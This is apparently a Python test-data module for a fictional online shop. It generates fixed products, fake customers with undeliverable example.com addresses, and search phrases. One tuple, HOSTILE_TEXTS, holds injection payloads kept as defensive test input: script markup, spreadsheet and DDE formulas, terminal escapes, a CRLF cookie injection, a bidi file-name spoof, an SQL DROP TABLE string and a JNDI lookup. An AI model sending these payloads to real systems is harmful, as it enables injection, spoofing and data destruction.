"""What the shop sells and who buys it: made up, fixed, the same in every process."""

from __future__ import annotations

import random
import unicodedata
from dataclasses import dataclass

__all__ = ["CATEGORIES", "HOSTILE_TEXTS", "PRODUCTS", "SEARCHES", "USERS", "Product", "User"]


@dataclass(frozen=True)
class Product:
    """One article; `price_cents` is in euro cents."""

    sku: str
    name: str
    category: str
    price_cents: int


@dataclass(frozen=True)
class User:
    """One customer, with an address that can never receive mail."""

    user_id: str
    name: str
    email: str
    country: str
    currency: str


CATEGORIES = ("kettles", "lamps", "chairs", "knives", "blankets", "clocks")
_MATERIALS = ("Oak", "Copper", "Enamel", "Linen", "Slate", "Walnut", "Brass", "Wool", "Glass", "Cork")
_SERIES = ("Aurora", "Fjord", "Harbour", "Meadow")
_FIRST_NAMES = (
    *("Amara", "Bjørn", "Chloé", "Dmitri", "Elif", "Farid", "Grace", "Hiroko", "Ines", "Jonas"),
    *("Katarzyna", "Liam", "Mei", "Noor", "Oluwaseun", "Priya", "Quentin", "Rosa", "Søren", "Tomás"),
)
_LAST_NAMES = (
    *("Almeida", "Brandt", "Chen", "Dubois", "Eriksen", "Fischer", "García", "Haddad", "Ivanova"),
    *("Jansen", "Kowalski", "Lindqvist", "Müller", "Nakamura", "O'Connor"),
)
_COUNTRIES = (("DE", "EUR"), ("FR", "EUR"), ("SE", "SEK"), ("GB", "GBP"), ("US", "USD"), ("CH", "CHF"))

SEARCHES = (
    *("copper kettle", "oak chair", "lamp", "wool blanket", "bread knife", "wall clock", "gift under 30"),
    *("kettle", "slate", "aurora", "blue lamp", "chair cushion", "walnut", "stool", "chef's knife", "mother's day"),
)

# Texts that a display must treat as data: markup, spreadsheet formulas, terminal escapes, bidirectional controls, SQL.
HOSTILE_TEXTS = (
    "<script>alert('kettle')</script>",
    '=HYPERLINK("http://example.invalid","lamp")',
    "+cmd|' /C calc'!A0",
    "lamp\x1b[31;1m RED \x1b[0m\x07",
    "kettle\r\nSet-Cookie: admin=1",
    "\u202egnp.tnemyap\u202c",
    "'; DROP TABLE products; --",
    "{{7*7}} ${jndi:ldap://example.invalid/a}",
    "chair \U0001f4ba " + "very " * 60 + "long",
)


def _make_products() -> tuple[Product, ...]:
    rng = random.Random("products")
    products = []
    for category in CATEGORIES:
        for number, material in enumerate(_MATERIALS, start=1):
            series = rng.choice(_SERIES)
            kind = category.removesuffix("s") if category != "knives" else "knife"
            sku = f"{category[:3].upper()}-{number:03d}"
            products.append(Product(sku, f"{material} {kind} {series}", category, rng.randrange(990, 24_990, 10)))
    return tuple(products)


def _make_users() -> tuple[User, ...]:
    rng = random.Random("users")
    users = []
    for number in range(240):
        first, last = rng.choice(_FIRST_NAMES), rng.choice(_LAST_NAMES)
        country, currency = rng.choice(_COUNTRIES)
        plain = (
            unicodedata.normalize("NFKD", f"{first}.{last}".replace("ø", "o"))
            .encode("ascii", "ignore")
            .decode()
            .lower()
        )
        email = f"{plain.replace(chr(39), '')}{number}@example.com"
        users.append(User(f"u-{1000 + number}", f"{first} {last}", email, country, currency))
    return tuple(users)


PRODUCTS = _make_products()
USERS = _make_users()
